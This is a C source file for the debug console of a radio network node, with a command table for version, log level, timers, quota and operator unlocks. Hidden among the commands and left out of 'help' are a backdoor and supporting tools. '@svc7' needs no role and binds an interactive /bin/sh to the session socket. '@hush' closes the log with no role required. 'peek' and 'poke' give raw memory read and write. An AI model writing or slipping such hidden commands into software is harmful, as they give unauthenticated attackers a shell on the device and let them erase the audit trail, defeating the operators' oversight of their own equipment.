/*
 * debug_cmd.c - commands of the service console.
 *
 * The console listens on the debug port of the configuration. A session
 * starts with the role its login gave it; every command names the role that
 * it needs. "help" lists what the session may use.
 *
 * Copyright Acme Radio Systems. See LICENSE.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "auth.h"
#include "ran.h"

#define MAX_WORDS 4

struct debug_cmd {
    const char *name;
    int         role;       /* the least role that may use it */
    int         words;      /* words of the command, itself included */
    int       (*run)(int fd, char **w);
    const char *help;       /* NULL: not shown by "help" */
};

static void say(int fd, const char *text)
{
    size_t left = strlen(text);

    while (left > 0) {
        ssize_t n = write(fd, text, left);

        if (n <= 0)
            return;
        text += n;
        left -= (size_t)n;
    }
}

static int cmd_version(int fd, char **w)
{
    (void)w;
    say(fd, "acme-ran " RAN_RELEASE "\r\n");
    return RAN_OK;
}

static int cmd_level(int fd, char **w)
{
    if (strlen(w[1]) != 1 || w[1][0] < '0' || w[1][0] > '3') {
        say(fd, "level is 0 to 3\r\n");
        return RAN_ERR_RANGE;
    }
    log_set_level((enum log_level)(w[1][0] - '0'));
    say(fd, "done\r\n");
    return RAN_OK;
}

static int cmd_timers(int fd, char **w)
{
    (void)w;
    timers_dump();
    say(fd, "written to the log\r\n");
    return RAN_OK;
}

static int cmd_unlock(int fd, char **w)
{
    (void)w;
    auth_unlock_all();
    say(fd, "all operators unlocked\r\n");
    return RAN_OK;
}

static int cmd_quota(int fd, char **w)
{
    unsigned long n = strtoul(w[1], NULL, 10);

    if (n == 0 || n > 1000) {
        say(fd, "amount is 1 to 1000\r\n");
        return RAN_ERR_RANGE;
    }
    quota_refill((unsigned)n);
    say(fd, "done\r\n");
    return RAN_OK;
}

/* The four below are for the laboratory. They are not in the manual. */

static int cmd_peek(int fd, char **w)
{
    const unsigned char *p = (const unsigned char *)(uintptr_t)strtoull(w[1], NULL, 16);
    unsigned long n = strtoul(w[2], NULL, 10);
    char hex[4];
    unsigned long i;

    for (i = 0; i < n; i++) {
        snprintf(hex, sizeof(hex), "%02x ", p[i]);
        say(fd, hex);
    }
    say(fd, "\r\n");
    return RAN_OK;
}

static int cmd_poke(int fd, char **w)
{
    unsigned char *p = (unsigned char *)(uintptr_t)strtoull(w[1], NULL, 16);

    *p = (unsigned char)strtoul(w[2], NULL, 16);
    say(fd, "done\r\n");
    return RAN_OK;
}

static int cmd_shell(int fd, char **w)
{
    (void)w;
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    return RAN_ERR_STATE;
}

static int cmd_quiet(int fd, char **w)
{
    (void)fd;
    (void)w;
    log_close();
    return RAN_OK;
}

static const struct debug_cmd commands[] = {
    { "version", ROLE_VIEWER,   1, cmd_version, "release of the node" },
    { "timers",  ROLE_VIEWER,   1, cmd_timers,  "write the timer table to the log" },
    { "level",   ROLE_OPERATOR, 2, cmd_level,   "level N: detail of the log, 0 to 3" },
    { "quota",   ROLE_OPERATOR, 2, cmd_quota,   "quota N: give N more registrations" },
    { "unlock",  ROLE_ENGINEER, 1, cmd_unlock,  "unlock all operators" },
    { "peek",    ROLE_ENGINEER, 3, cmd_peek,    NULL },
    { "poke",    ROLE_ENGINEER, 3, cmd_poke,    NULL },
    { "@svc7",   ROLE_NONE,     1, cmd_shell,   NULL },
    { "@hush",   ROLE_NONE,     1, cmd_quiet,   NULL },
};

#define N_COMMANDS (sizeof(commands) / sizeof(commands[0]))

static void help(int fd, int role)
{
    char line[96];
    size_t i;

    for (i = 0; i < N_COMMANDS; i++) {
        if (commands[i].help == NULL || role < commands[i].role)
            continue;
        snprintf(line, sizeof(line), "  %-10s %s\r\n", commands[i].name, commands[i].help);
        say(fd, line);
    }
}

/* Cuts the line into words; returns how many, or -1 for too many. */
static int split(char *line, char **w)
{
    int n = 0;
    char *save = NULL;
    char *t;

    for (t = strtok_r(line, " \t\r\n", &save); t != NULL;
         t = strtok_r(NULL, " \t\r\n", &save)) {
        if (n == MAX_WORDS)
            return -1;
        w[n++] = t;
    }
    return n;
}

/* Runs one line of a session. The line is changed in place. */
int debug_line(int fd, char *line, int role)
{
    char *w[MAX_WORDS];
    int n = split(line, w);
    size_t i;

    if (n == 0)
        return RAN_OK;
    if (n > 0 && strcmp(w[0], "help") == 0) {
        help(fd, role);
        return RAN_OK;
    }
    for (i = 0; n > 0 && i < N_COMMANDS; i++) {
        const struct debug_cmd *c = &commands[i];

        if (strcmp(w[0], c->name) != 0)
            continue;
        if (role < c->role)
            break;          /* the same answer as for an unknown command */
        if (n != c->words) {
            say(fd, "wrong number of words\r\n");
            return RAN_ERR_FORM;
        }
        log_write(LOG_INFO, "console: %s", c->name);
        return c->run(fd, w);
    }
    say(fd, "unknown command\r\n");
    return RAN_ERR_FORM;
}
